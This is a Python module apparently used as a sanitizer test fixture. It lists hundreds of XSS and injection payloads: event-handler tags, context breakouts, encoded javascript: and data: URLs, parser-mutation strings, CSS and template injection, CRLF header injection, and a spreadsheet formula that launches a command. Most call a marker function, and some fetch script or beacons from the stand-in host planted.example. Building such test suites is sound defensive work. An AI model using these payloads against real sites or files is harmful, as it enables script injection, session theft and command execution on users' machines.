"""What would run as a script, or lead elsewhere, wherever it stood on a page without being escaped.

Each calls ``planted``, which no page has but those of the tests, so that a run is seen; or asks a host for something
that no page asks.
"""

ELSEWHERE = "planted.example"
_TAGS = r"""
<img src=x onerror=planted()>
<img src=x:x onerror='planted()'>
<IMG SRC=x OnErRoR=planted()>
<img/src=x/onerror=planted()>
<img src='' onerror=planted() alt
<image src=x onerror=planted()>
<<img src=x onerror=planted()>
<img src=x onerror=planted()//
<img src=x oneonerrorrror=planted()>
<img srcset=x onerror=planted()>
<picture><source srcset=x><img onerror=planted()></picture>
<body onload=planted()>
<body onpageshow=planted()>
<svg onload=planted()>
<svg/onload=planted()>
<svg onload=planted()//
<svg><g onload=planted()></g></svg>
<svg><style onload=planted()></style></svg>
<style onload=planted()></style>
<iframe onload=planted()></iframe>
<iframe src=x onload=planted()>
<object data=x onerror=planted()></object>
<embed src=x onload=planted()>
<video src=x onerror=planted()></video>
<video><source onerror=planted()></video>
<audio src=x onerror=planted()></audio>
<input autofocus onfocus=planted()>
<textarea autofocus onfocus=planted()></textarea>
<select autofocus onfocus=planted()></select>
<a href=# autofocus onfocus=planted()>x</a>
<div tabindex=1 autofocus onfocus=planted()>x</div>
<details open ontoggle=planted()><summary>x</summary></details>
<marquee onstart=planted()>x</marquee>
<link rel=stylesheet href=x onerror=planted()>
<script src=x onerror=planted()></script>
<p onmouseover=planted()>x</p>
<b onclick=planted()>x</b>
<div onpointerenter=planted()>x</div>
<x onclick=planted()>x</x>
<x contenteditable onfocus=planted()>x
<form oninput=planted()><input></form>
<dialog open onclose=planted()>x</dialog>
<div onwheel=planted()>x</div>
<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=planted()>x</b>
<b style='transition:all 1s' ontransitionend=planted()>x</b>
<input type=image src=x onerror=planted()>
<div popover onbeforetoggle=planted()>x</div>
<track default src=x onerror=planted()>
<font onclick=planted()>x</font>
"""
_WAYS_OUT = r"""
"><img src=x onerror=planted()>
'><img src=x onerror=planted()>
`><img src=x onerror=planted()>
" onfocus=planted() autofocus x="
' onfocus=planted() autofocus x='
" onmouseover="planted()
' onmouseover='planted()
x onerror=planted() y
"/><svg onload=planted()>
--><script>planted()</script>
--!><img src=x onerror=planted()>
]]><img src=x onerror=planted()>
</title><img src=x onerror=planted()>
</textarea><img src=x onerror=planted()>
</style><img src=x onerror=planted()>
</noscript><img src=x onerror=planted()>
</template><img src=x onerror=planted()>
</option></select><img src=x onerror=planted()>
</script><img src=x onerror=planted()>
"]}</script><script>planted()</script>
</script ><script>planted()</script>
</SCRIPT/x><script>planted()</script>
<!--<script>planted()</script>
<!--<script></script><script>planted()</script>-->
\"><img src=x onerror=planted()>
\u003cimg src=x onerror=planted()\u003e
\x3cscript\x3eplanted()\x3c/script\x3e
';planted()//
";planted()//
\';planted()//
*/planted()/*
${planted()}
`;planted()//
'+planted()+'
"+planted()+"
</a><img src=x onerror=planted()>
</xmp><img src=x onerror=planted()>
</iframe><img src=x onerror=planted()>
</math><img src=x onerror=planted()>
"""
"""Out of an attribute, an element, a comment, or a string of a script."""
_SCRIPTS = r"""
<script>planted()</script>
<SCRIPT>planted()</SCRIPT>
<script/x>planted()</script>
<script>planted()<!--
<scr<script>ipt>planted()</scr</script>ipt>
<script type=module>planted()</script>
<script src=data:text/javascript,planted()></script>
<script src=//planted.example/x.js></script>
<svg><script>planted()</script></svg>
<svg><script href=data:text/javascript,planted() /></svg>
<svg><script>&#112;lanted()</script></svg>
<math><script>planted()</script></math>
<script xmlns="http://www.w3.org/1999/xhtml">planted()</script>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">planted()</x:script>
%3Cscript%3Eplanted()%3C/script%3E
&lt;script&gt;planted()&lt;/script&gt;
&#60;script&#62;planted()&#60;/script&#62;
&amp;lt;script&amp;gt;planted()
+ADw-script+AD4-planted()+ADw-/script+AD4-
＜script＞planted()＜/script＞
﹤script﹥planted()
<ımg src=x onerror=planted()>
<![CDATA[<script>planted()</script>]]>
<?xml-stylesheet href='javascript:planted()'?>
<!DOCTYPE x [<!ENTITY y 'planted()'>]>&y;
"""
_PLACES = r"""
javascript:planted()
JaVaScRiPt:planted()
javascript&colon;planted()
javascript&#58;planted()
&#106;avascript:planted()
&#x6A;avascript:planted()
java&Tab;script:planted()
java&NewLine;script:planted()
javascript:%70lanted()
javascript://%0aplanted()
vbscript:planted()
livescript:planted()
data:text/html,<script>planted()</script>
data:text/html;base64,PHNjcmlwdD5wbGFudGVkKCk8L3NjcmlwdD4=
data:image/svg+xml,<svg onload=planted()>
blob:planted()
view-source:planted()
//planted.example/
"""
"""Where a link may lead."""
_LINKS = r"""
<form action="javascript:planted()"><button>x</button></form>
<button form=f formaction="javascript:planted()">x</button>
<svg><a xlink:href="javascript:planted()"><text>x</text></a></svg>
<math href="javascript:planted()">x</math>
<svg><animate attributeName=href values="javascript:planted()" /></svg>
<object data="javascript:planted()"></object>
<embed src="javascript:planted()">
<meta http-equiv=refresh content="0;url=javascript:planted()">
<meta http-equiv=refresh content="0;url=//planted.example/">
<base href="//planted.example/">
<area href="javascript:planted()">
<link rel=import href="data:text/html,planted()">
<img src="javascript:planted()">
<img src="//planted.example/x.png">
<table background="//planted.example/x.png">
<iframe srcdoc='<script>planted()</script>'></iframe>
<iframe srcdoc='&lt;img src=x onerror=planted()&gt;'></iframe>
![x](x"onerror="planted())
[x]: javascript:planted()
<javascript:planted()>
[x](<javascript:planted()>)
<a href="x" ping="//planted.example/">x</a>
<a target=_blank href=javascript:planted()>x</a>
"""
_MUTATING = r"""
<svg></p><style><a id="</style><img src=x onerror=planted()>">
<math><mtext><table><mglyph><style><img src=x onerror=planted()>
<noscript><p title="</noscript><img src=x onerror=planted()>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=planted()>
<svg><foreignObject><img src=x onerror=planted()></foreignObject></svg>
<svg><desc><img src=x onerror=planted()></desc></svg>
<math><annotation-xml encoding=text/html><img src=x onerror=planted()></annotation-xml></math>
<svg><title><![CDATA[</title><img src=x onerror=planted()>]]>
<xmp><p title="</xmp><img src=x onerror=planted()>">
<noembed><img title="</noembed><img src=x onerror=planted()>">
<listing>&lt;img src=x onerror=planted()&gt;</listing>
<select><noscript></select><img src=x onerror=planted()>
<template><style></template><img src=x onerror=planted()></style>
<p id='"><img src=x onerror=planted()>'>x</p>
<a title='</a><img src=x onerror=planted()>'>x</a>
<!-- --!><img src=x onerror=planted()> -->
<!-><img src=x onerror=planted()>
<!--><img src=x onerror=planted()>-->
<?><img src=x onerror=planted()>
</ ><img src=x onerror=planted()>
<svg><use href="data:image/svg+xml,<svg id='x' onload='planted()'/>#x"/></svg>
<svg><set attributeName=onmouseover to=planted()></svg>
<plaintext><img src=x onerror=planted()>
<textarea><img title='</textarea><img src=x onerror=planted()>'>
<li><p><b></li><img src=x onerror=planted()>
<em><a href='x'><em></a><img src=x onerror=planted()>
<q cite="x"onclick=planted()>x</q>
<b style="x:\65xpression(planted())">x</b>
"""
"""Harmless until a parser has read it a second time, or in another place."""
_OTHERS = r"""
<style>*{background:url(//planted.example/x)}</style>
<style>@import '//planted.example/x.css';</style>
<b style='background:url(//planted.example/x)'>x</b>
<b style='x:expression(planted())'>x</b>
<b style='-moz-binding:url(x#planted())'>x</b>
{{ constructor.constructor('planted()')() }}
{% include 'x' %}
{{7*7}}<script>planted()</script>
#{planted()}
<%= planted() %>
@(planted())
=cmd|' /C calc'!A0
=HYPERLINK("//planted.example/","x")
+1+planted()
-1+planted()
@SUM(1+1)*planted()
x%0d%0aSet-Cookie:%20planted=1
","x":"<script>planted()</script>
}});planted()//
<a id=location>x</a>
<form id=document><input name=cookie></form>
<img name=getElementById>
x' UNION SELECT '<script>planted()</script>
<item><title><script>planted()</script></title></item>
"""
"""Styles, templates, cells of spreadsheets, headers, names that scripts ask for."""
_WITH_ODD_SIGNS = (
    "<img\tsrc=x\tonerror=planted()>", "<img\nsrc=x\nonerror=planted()\n>", "<img src onerror\f=\fplanted()>",
    "\u2028planted()//", "<script\n>planted()</script\n>", "<script>//\nplanted()</script>",
    "<script\xa0>planted()</script>", "<\u200bscript>planted()</script>", "\ufeff<script>planted()</script>",
    "\u202e<script>planted()</script>", "\t=planted()", "\r=planted()", "x\r\nSet-Cookie: planted=1",
    "x\r\n\r\n<script>planted()</script>",
)  # fmt: skip
PLACES = (
    *_PLACES.strip().splitlines(), " javascript:planted()", "java\tscript:planted()", "java\nscript:planted()",
    "\x01javascript:planted()", "\\\\planted.example\\",
)  # fmt: skip
"""Those that do harm as all of an address."""
_TEXTS = (_TAGS, _WAYS_OUT, _SCRIPTS, _LINKS, _MUTATING, _OTHERS)
_AROUND = ('<a href="{}">x</a>', '<iframe src="{}"></iframe>', "[x]({})")
PAYLOADS = tuple(
    dict.fromkeys(
        (
            *(line for text in _TEXTS for line in text.strip().splitlines()),
            *_WITH_ODD_SIGNS,
            *(around.format(place) for around in _AROUND for place in PLACES),
            *PLACES,
        )
    )
)
